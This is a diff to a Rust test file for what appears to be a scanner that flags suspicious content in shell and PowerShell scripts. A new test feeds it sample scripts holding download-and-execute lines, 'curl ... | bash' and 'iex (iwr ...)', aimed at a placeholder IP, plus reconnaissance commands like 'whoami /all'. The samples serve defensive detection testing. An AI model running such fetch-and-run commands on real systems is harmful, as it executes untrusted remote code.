@@ -115,7 +115,7 @@ fn vector_4_gzip_inside_base64() {
         .iter()
         .find(|layer| layer.transform == Some(Transform::FromBase64String))
         .unwrap();
-    assert_eq!((packed.bytes.len(), packed.text.is_none()), (37, true));
+    assert_eq!((packed.bytes().len(), packed.text.is_none()), (37, true));
     let inner = found
         .layers
         .iter()
@@ -272,4 +272,38 @@ fn any_text_ends_and_gives_the_same_again() {
         assert_eq!(texts(&one), texts(&other));
         assert!(one.layers.len() <= 256);
     }
+}
+
+#[test]
+fn what_is_kept_of_lines_changes_nothing() {
+    let texts = [
+        "curl http://203.0.113.7/i.sh | bash\n# curl http://203.0.113.7/i.sh | bash\nid",
+        "#!/bin/sh\nid; curl http://203.0.113.7/i.sh | bash",
+        "id\ncurl \\\n http://203.0.113.7/i.sh | bash\r\n  id\nREM whoami",
+        "REM whoami\r\nwhoami ^\r\n /all\r\niex (iwr http://203.0.113.7/a)`\n; whoami",
+    ];
+    let (settings, catalogue) = (ScriptSettings::default(), Catalogue::default());
+    let mut before = Examinations::default();
+    let shown = |found: &Examined| -> Vec<String> {
+        let hits = found.matches.iter();
+        let hits = hits.map(|hit| {
+            let (id, range) = (&hit.indicator.id, &hit.range);
+            format!("{id} {} {range:?} {} {}", hit.layer, hit.line, hit.weight())
+        });
+        hits.collect()
+    };
+    let mut hits = 0;
+    for text in texts.iter().chain(&texts) {
+        for windows in [None, Some(true), Some(false)] {
+            let hint = ScriptHint {
+                windows,
+                file_name: None,
+            };
+            let alone = shown(&examine(text, &hint, &settings));
+            hits += alone.len();
+            let kept = catalogue.examine(text, &hint, &settings, &mut before);
+            assert_eq!(shown(&kept), alone, "{text}");
+        }
+    }
+    assert!(hits > 40, "{hits}");
 }
